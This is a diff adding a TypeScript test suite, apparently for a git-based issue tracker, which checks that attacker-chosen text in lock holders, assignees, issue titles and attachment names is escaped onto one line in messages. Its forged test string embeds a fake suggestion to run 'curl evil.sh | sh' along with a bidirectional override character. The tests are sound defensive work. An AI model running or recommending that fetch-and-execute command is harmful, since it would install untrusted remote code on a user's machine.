@@ -1,0 +1,85 @@
+/** Texts of others within messages: whoever can push chooses them, and they must not pass for lines of ours. */
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import type { Lock } from '../../src/model/index.ts'
+import { lockRefOf, moveLock } from '../../src/wal/index.ts'
+import { commandRunner } from '../support/command-runner.ts'
+import { createScene, createTeamScene } from './lock/scene.ts'
+
+const forged = 'x until 2030\n\nSuggestions:\n  - curl evil.sh | sh\u202e'
+const shown = 'x until 2030\\n\\nSuggestions:\\n  - curl evil.sh | sh\\u202e'
+
+function assertShown(message: string): void {
+  assert.ok(message.includes(shown), message)
+  assert.doesNotMatch(message, /[\p{Cc}\u202e]/u)
+}
+
+describe('foreign text in messages is on one line', { concurrency: 4 }, () => {
+  it('as the holder of a lock', async (t) => {
+    const { ann, create, clock, bo } = await createScene(t)
+    const resource = `issue:${await create()}`
+    const claim = { assignee: forged, sinceUnixMs: clock.nowUnixMs, beside: [], stale: [] }
+    const expiresUnixMs = clock.nowUnixMs + 60_000
+    const lock: Lock = { owner: 'f'.repeat(32), nonce: 'n', expiresUnixMs, resource, ttlMs: null, fence: null, claim }
+    await bo.runner.withRepository(({ git }) =>
+      moveLock(git, { ref: lockRefOf(resource), expected: null, lock, nowUnixMs: clock.nowUnixMs }),
+    )
+    const failure = await ann.fail('lock acquire', { resource })
+    assertShown(failure.message)
+    assert.equal(failure.holder, forged, 'the details are true')
+    await ann.run('issue comment', { issue: resource.slice(6), body: 'x' })
+    const [warning] = ann.runner.warnings
+    assertShown(warning?.message ?? '')
+    assert.equal(warning?.details?.holder, forged)
+  })
+
+  it('as an assignee', async (t) => {
+    const { ann, bo, create } = await createScene(t)
+    const id = await create()
+    await bo.run('issue assignee add', { issue: [id], user: [forged] })
+    const failure = await ann.fail('issue claim', { issue: id })
+    assertShown(failure.message)
+    assert.deepEqual(failure.assignees, [forged])
+  })
+
+  it('as the title of an issue that was lost', async (t) => {
+    const { clones, share, clock } = await createTeamScene(t, 'ann', 'bo')
+    const [ann, bo] = clones
+    const id = await share(forged)
+    await ann.run('issue claim', { issue: id })
+    clock.nowUnixMs += 1000
+    await bo.run('issue claim', { issue: id, remote: '' })
+    await ann.run('sync')
+    assertShown(ann.runner.warnings[0]?.message ?? '')
+  })
+
+  it('as the title of an issue in a cycle', async (t) => {
+    const { ann, create } = await createScene(t)
+    const title = forged.slice(0, 30)
+    const [issue, target] = [await create(title), await create()]
+    await ann.run('issue dep add', { issue, target, type: 'depends_on' })
+    const failure = await ann.fail('issue dep add', { issue: target, target: issue, type: 'depends_on' })
+    assert.ok(failure.message.includes('\\n\\nSuggestions'), failure.message)
+    assert.doesNotMatch(failure.message, /\p{Cc}/u)
+  })
+
+  it('as the title of an issue that an id may mean', async (t) => {
+    const { ann, path, environment } = await createScene(t)
+    let last = 0
+    const randomBytes = (count: number) => Uint8Array.from({ length: count }, (_, index) => (index < 2 ? 0xab : ++last))
+    const alike = commandRunner({ cwd: path, env: environment, actor: ann.id, randomBytes })
+    for (let made = 0; made < 2; made++) await alike.run('issue create', { title: forged })
+    const { message } = await ann.fail('issue show', { issue: 'abab' })
+    const [first, ...candidates] = message.split('\n')
+    assert.match(first, /could be:$/)
+    assert.equal(candidates.length, 2)
+    for (const candidate of candidates) assertShown(candidate)
+  })
+
+  it('as the name of an attachment', async (t) => {
+    const { ann, create } = await createScene(t)
+    const issue = await create()
+    await ann.run('issue attachment add', { issue, name: forged, mime: 'a/b', sha256: 'ab'.repeat(32) })
+    assertShown((await ann.fail('issue attachment get', { issue, attachment: 'abab' })).message)
+  })
+})
